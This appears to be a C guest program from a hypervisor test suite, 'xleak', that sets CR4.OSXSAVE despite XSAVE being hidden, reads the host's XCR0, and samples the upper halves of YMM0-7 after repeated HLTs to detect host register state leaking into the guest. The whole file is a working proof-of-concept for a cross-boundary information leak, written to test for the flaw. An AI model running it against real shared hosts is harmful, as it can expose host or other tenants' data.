// SPDX-License-Identifier: GPL-2.0
/*
 * xleak: XSAVE is hidden from guests, but CR4 writes are not intercepted.
 * This guest sets CR4.OSXSAVE anyway, reads XCR0 (the host's) and, if AVX
 * is on there, reads the upper halves of YMM0-7 after each of n= (default
 * 300) HLTs with IF = 0 (each a 1 ms nap of the vCPU thread, so host tasks
 * run on the CPU in between). The guest never writes those registers: any
 * non-zero word is host state. Prints "xleak: nonzero upper words N".
 */
#include "guest.h"

void gmain(uint32_t magic, const struct uv_multiboot_info *mbi);

static uint32_t up[8][4] __attribute__((aligned(16)));

static void read_upper(void)
{
	__asm__ volatile("vextractf128 $1, %%ymm0, 0(%0)\n\t"
			 "vextractf128 $1, %%ymm1, 16(%0)\n\t"
			 "vextractf128 $1, %%ymm2, 32(%0)\n\t"
			 "vextractf128 $1, %%ymm3, 48(%0)\n\t"
			 "vextractf128 $1, %%ymm4, 64(%0)\n\t"
			 "vextractf128 $1, %%ymm5, 80(%0)\n\t"
			 "vextractf128 $1, %%ymm6, 96(%0)\n\t"
			 "vextractf128 $1, %%ymm7, 112(%0)"
			 : : "r" (up) : "memory");
}

void gmain(uint32_t magic, const struct uv_multiboot_info *mbi)
{
	uint64_t n = parse_num(cmdline_get(mbi, "n"), 300), i;
	uint32_t cr4, lo, hi, seen = 0, first = 0, r, w;

	__asm__ volatile("cli\n\tmov %%cr4, %0" : "=r" (cr4));
	__asm__ volatile("mov %0, %%cr4" : : "r" (cr4 | (1u << 18)));	/* OSXSAVE */
	__asm__ volatile("xgetbv" : "=a" (lo), "=d" (hi) : "c" (0));
	puts("xleak: xcr0 ");
	put_hex(((uint64_t)hi << 32) | lo);
	puts("\n");
	if (!(lo & 4)) {
		puts("xleak: no AVX in XCR0\n");
		guest_exit(0);
	}
	for (i = 0; i < n; i++) {
		__asm__ volatile("hlt");
		read_upper();
		for (r = 0; r < 8; r++)
			for (w = 0; w < 4; w++)
				if (up[r][w]) {
					if (!seen)
						first = up[r][w];
					seen++;
				}
	}
	puts("xleak: nonzero upper words ");
	put_dec(seen);
	puts("\n");
	if (seen) {
		puts("xleak: first ");
		put_hex(first);
		puts("\n");
	}
	guest_exit(0);
}
